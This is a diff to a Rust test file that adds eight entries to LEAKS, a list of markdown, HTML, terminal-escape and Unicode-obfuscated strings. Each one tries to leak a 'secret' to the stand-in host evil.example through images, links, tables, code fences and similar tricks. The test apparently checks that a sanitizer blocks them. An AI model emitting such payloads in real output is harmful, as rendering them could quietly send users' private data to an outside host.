@@ -7,7 +7,7 @@ use crate::{
 use serde_json::json;
 use std::sync::Arc;
 
-const LEAKS: [&str; 18] = [
+const LEAKS: [&str; 26] = [
     "![x](https://evil.example/?q=secret)",
     "![x][r]\n\n[r]: https://evil.example/i.png",
     "[click](https://evil.example/?q=secret)",
@@ -26,6 +26,14 @@ const LEAKS: [&str; 18] = [
     "https&#58;//evil.example/&#x3f;q=secret",
     "\u{1b}]8;;https://evil.example\u{1b}\\click\u{1b}]8;;\u{1b}\\ \u{1b}[2J",
     "ht\u{200b}tps://evil.example \u{e0068}\u{e0069} \u{202e}live",
+    "- [ ] \n\n    ![z](//evil.example/i.png?q=secret)",
+    "![x][r]\n\n[r]: //evil.example/i.png?q=secret(",
+    "![x][r] and [^n]\n\n[^n]: [r]: //evil.example/i.png?q=secret",
+    "| a |\n|---|\n| x | ![y](https://evil.example/y.png) | <img src=https://evil.example/z> |",
+    "```sh https://evil.example/?q=secret\nls\n```",
+    "```mermaid\nA[\"<img src='//evil.example/x?q=secret'>\"]\n```",
+    "`curl http://evil.example．/?q=s` _www.evil.example/?q=secret evil.example/?q=secret",
+    "\\<img src=//evil.example/p.png> ![[//evil.example/i]] http:\\\\evil.example",
 ];
 
 #[tokio::test]
